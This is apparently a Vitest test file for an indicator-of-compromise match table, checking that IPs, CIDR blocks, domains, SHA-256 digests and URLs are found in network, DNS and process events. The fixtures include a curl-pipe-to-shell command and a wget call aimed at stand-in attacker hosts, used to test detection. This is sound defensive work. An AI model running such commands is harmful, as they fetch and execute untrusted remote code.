import { Worker } from 'node:worker_threads'
import type { Event } from '../events/event.ts'
import { describe, expect, it } from 'vitest'
import { isKnown, knownValues } from './event-values.ts'
import { MatchTable, tableMemory } from './match-table.ts'
import { observableOf } from './observable.ts'

function tableOf(values: readonly string[]): MatchTable {
  const table = new MatchTable(tableMemory(values.length))
  for (const written of values) {
    const found = observableOf(written)
    if (!found.ok) throw new Error(found.why)
    expect(table.add(found.value.type, found.value.value)).toBe(true)
  }
  return table
}
const eventOf = (more: Partial<Event>): Event => ({
  '@timestamp': '2026-11-24T12:00:00.000Z',
  event: { category: ['network'], type: ['start'], action: 'x' },
  ...more,
})
const hits = (table: MatchTable, more: Partial<Event>) => {
  const event = eventOf(more)
  const values = knownValues(event, table)
  expect(isKnown(event, table)).toBe(values.length > 0)
  return values.map(({ field, type, value }) => `${field} ${type} ${value}`)
}

describe('values in memory', () => {
  it('knows an address by itself, in its block, and written as IPv6', () => {
    const table = tableOf(['203.0.113.9', '198.51.100.0/24', '198.51.0.0/16', '2001:db8::1', '2001:db8:5::/48'])
    expect(hits(table, { destination: { ip: '203.0.113.9' } })).toEqual(['destination.ip ipv4 203.0.113.9'])
    expect(hits(table, { source: { ip: '::ffff:203.0.113.9' } })).toEqual(['source.ip ipv4 203.0.113.9'])
    expect(hits(table, { destination: { ip: '198.51.100.7' } })).toEqual([
      'destination.ip cidr 198.51.0.0/16',
      'destination.ip cidr 198.51.100.0/24',
    ])
    expect(hits(table, { destination: { ip: '2001:db8:5:ffff::2' } })).toEqual(['destination.ip cidr 2001:db8:5::/48'])
    expect(hits(table, { destination: { ip: '2001:0db8::0001%eth0' } })).toEqual(['destination.ip ipv6 2001:db8::1'])
    expect(hits(table, { destination: { ip: '203.0.113.10' }, source: { ip: 'not an address' } })).toEqual([])
    expect(hits(table, { dns: { resolved_ip: ['192.0.2.1', '203.0.113.9'] } })).toEqual([
      'dns.resolved_ip ipv4 203.0.113.9',
    ])
  })

  it('knows a name below a known one, in any case, and not one that only ends with the same letters', () => {
    const table = tableOf(['evil.example'])
    expect(hits(table, { dns: { question: { name: 'a.b.EVIL.example.' } } })).toEqual([
      'dns.question.name domain evil.example',
    ])
    expect(hits(table, { dns: { question: { name: 'notevil.example' } } })).toEqual([])
    expect(hits(table, { dns: { question: { name: 'example' } } })).toEqual([])
    expect(hits(table, { dns: { question: { name: '' } } })).toEqual([])
    expect(hits(table, { destination: { domain: 'evil.example' } })).toEqual(['destination.domain domain evil.example'])
  })

  it('knows digests and URLs, also those in command lines, defanged or with another query', () => {
    const sha256 = 'ab'.repeat(32)
    const table = tableOf([sha256, 'http://evil.example/k.sh', '203.0.113.9'])
    expect(hits(table, { process: { hash: { sha256 } } })).toEqual([`process.hash.sha256 sha256 ${sha256}`])
    expect(hits(table, { file: { path: '/x', hash: { sha256 } } })).toEqual([`file.hash.sha256 sha256 ${sha256}`])
    const ran = (command_line: string) => hits(table, { process: { command_line } })
    expect(ran("sh -c 'curl -fsS http://EVIL.example/k.sh?x=1 | sh'")).toEqual([
      'process.command_line url http://evil.example/k.sh',
    ])
    expect(ran('wget http://203.0.113.9:8080/x')).toEqual(['process.command_line ipv4 203.0.113.9'])
    expect(ran('wget http://good.example/k.sh')).toEqual([])
    expect(hits(table, { url: { full: 'http://evil.example/k.sh' } })).toEqual([
      'url.full url http://evil.example/k.sh',
    ])
  })

  it('neither forgets nor invents one of a hundred thousand, also after it has grown', () => {
    const small = new MatchTable(tableMemory(50_000))
    const name = (n: number) => `h${n}.evil-${n % 977}.example`
    for (let n = 0; n < 50_000; n++) small.add('domain', name(n))
    const table = new MatchTable(tableMemory(100_000, small))
    for (const _ of small.copyTo(table, 10_000));
    for (let n = 50_000; n < 100_000; n++) table.add('domain', name(n))
    let missing = 0
    let invented = 0
    for (let n = 0; n < 100_000; n++) if (!table.hasDomain(name(n))) missing++
    for (let n = 100_000; n < 300_000; n++) if (table.hasDomain(name(n))) invented++
    expect({ missing, invented, size: table.size }).toEqual({ missing: 0, invented: 0, size: 100_000 })
  })

  it('says when it is full instead of growing past its memory', () => {
    const table = new MatchTable(tableMemory(10))
    let n = 0
    while (table.add('domain', `d${n}.example`)) n++
    expect(n).toBe(820)
    expect(table.hasDomain('d819.example')).toBe(true)
    expect(table.hasDomain('nothing.example')).toBe(false)
  })

  it('is seen by another thread while it is filled', async () => {
    const table = new MatchTable(tableMemory(1_000))
    const module = new URL('match-table.ts', import.meta.url).href
    const worker = new Worker(
      `const { parentPort, workerData } = require('node:worker_threads')
       import(${JSON.stringify(module)}).then(({ MatchTable }) => {
         const table = new MatchTable(workerData)
         parentPort.on('message', (name) => parentPort.postMessage(table.hasDomain(name)))
         parentPort.postMessage('ready')
       })`,
      { eval: true, workerData: table.shared },
    )
    const answer = () => new Promise((resolve) => worker.once('message', resolve))
    try {
      await answer()
      worker.postMessage('late.example', [])
      expect(await answer()).toBe(false)
      table.add('domain', 'late.example')
      worker.postMessage('late.example', [])
      expect(await answer()).toBe(true)
    } finally {
      await worker.terminate()
    }
  })
})
